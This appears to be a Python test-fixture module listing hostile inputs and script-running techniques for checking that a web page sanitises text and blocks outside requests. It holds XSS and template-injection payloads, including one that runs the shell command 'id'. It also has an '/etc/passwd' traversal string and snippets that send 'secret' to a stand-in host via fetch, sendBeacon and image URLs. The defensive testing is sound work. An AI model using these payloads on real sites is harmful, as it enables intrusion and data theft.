"""Text that would do harm if it became markup, script or a template, and ways to run script once it had."""

from __future__ import annotations

FOREIGN = "http://foreign.test"

TEXTS = (
    "<img src=x onerror='window.hacked=1'>",
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</title></textarea></style><script>window.hacked=1</script>",
    '"><svg onload=window.hacked=1>',
    "' onmouseover='window.hacked=1' x='",
    "'-(window.hacked=1)-'",
    '"-(window.hacked=1)-"',
    "\\u003cimg src=x onerror=window.hacked=1\\u003e",
    "${window.hacked=1}",
    "`${window.hacked=1}`",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{{1117*1117}}",
    "{% set x = cycler.__init__.__globals__.os.popen('id') %}{{x.read()}}",
    "<%= 1117*1117 %>#{1117*1117}${1117*1117}",
    "{@html \"<img src=x onerror='window.hacked=1'>\"}",
    "javascript:window.hacked=1",
    "[a](javascript:window.hacked=1)",
    '![a](x" onerror="window.hacked=1)',
    "$$\\href{javascript:window.hacked=1}{a}$$",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    "%3Cimg%20src=x%20onerror=window.hacked=1%3E",
    "__proto__",
    "../../../../etc/passwd",
    "\u202egpj.exe\u2028\u2029",
    "\0\x01\x1b[31m\x7f",
    "ⓤ𝓷ⓘ😀é\u0301" * 20,
    "%s%n%x{0.__class__}",
    "a" * 5000,
)

_SCRIPT = "window.hacked = 1"


def _html(markup: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', `{markup}`)"


def _element(tag: str, **properties: str) -> str:
    given = ", ".join(f"{name}: `{value}`" for name, value in properties.items())
    return f"document.body.append(Object.assign(document.createElement('{tag}'), {{{given}}}))"


WAYS = {
    "a script element": _element("script", textContent=_SCRIPT),
    "an event handler": _html(f"<img src=x onerror='{_SCRIPT}'>"),
    "an event handler in SVG": _html(f"<svg><animate attributeName=x dur=1s onbegin='{_SCRIPT}'></svg>"),
    "a link that is script": _html(f"<a id=hit href='javascript:void({_SCRIPT})'>a</a>") + "; hit.click()",
    "a frame that is script": _element("iframe", src=f"javascript:void(parent.{_SCRIPT.removeprefix('window.')})"),
    "a frame with a document in it": _element("iframe", srcdoc="<script>parent.hacked = 1<\\/script>"),
    "a script as data": _element("script", src=f"data:text/javascript,{_SCRIPT}"),
    "a script as blob": f"""const url = URL.createObjectURL(new Blob(["{_SCRIPT}"], {{type: "text/javascript"}}));
        document.body.append(Object.assign(document.createElement("script"), {{src: url}}))""",
    "a module as data": f"import(`data:text/javascript,{_SCRIPT}`).catch(() => 0)",
    "a script from elsewhere": _element("script", src=f"{FOREIGN}/x.js"),
    "a module from elsewhere": f"import(`{FOREIGN}/x.mjs`).catch(() => 0)",
    "a script from elsewhere, by <base>": f"""
        document.head.prepend(Object.assign(document.createElement("base"), {{href: "{FOREIGN}"}}));
        document.body.append(Object.assign(document.createElement("script"), {{src: "x.js"}}))""",
    "a picture from elsewhere": f"new Image().src = `{FOREIGN}/x.png?secret`",
    "fetching from elsewhere": f"fetch(`{FOREIGN}/?secret`).catch(() => 0)",
    "telling elsewhere": f"navigator.sendBeacon(`{FOREIGN}/`, 'secret')",
    "events from elsewhere": f"new EventSource(`{FOREIGN}/`)",
    "a style sheet from elsewhere": _element("link", rel="stylesheet", href=f"{FOREIGN}/x.css"),
    "a style that asks elsewhere": _html(f"<style>body {{ background: url({FOREIGN}/?secret) }}</style>"),
    "a font from elsewhere": f"new FontFace('x', `url({FOREIGN}/x.woff2)`).load().catch(() => 0)",
    "a film from elsewhere": _element("video", src=f"{FOREIGN}/x.mp4"),
    "a frame from elsewhere": _element("iframe", src=f"{FOREIGN}/"),
    "an object from elsewhere": _html(f"<object data='{FOREIGN}/x.html' type='text/html'></object>"),
    "a form to elsewhere": _html(
        f"<iframe name=there></iframe><form id=hit target=there method=post action='{FOREIGN}/'>"
    )
    + "; hit.submit()",
    "a worker as data": f"new Worker(`data:text/javascript,fetch('{FOREIGN}/')`)",
}
"""Code that a page may run or ask for, by name; each sets `hacked` or asks at `FOREIGN`."""

WORKED_OUT = str(1117 * 1117)
"""What stands where a template was run."""
MARKS = "img[src=x], svg[onload], iframe[srcdoc], [onmouseover], a[href^='javascript:']"
"""What a page has if one of the `TEXTS` became markup."""
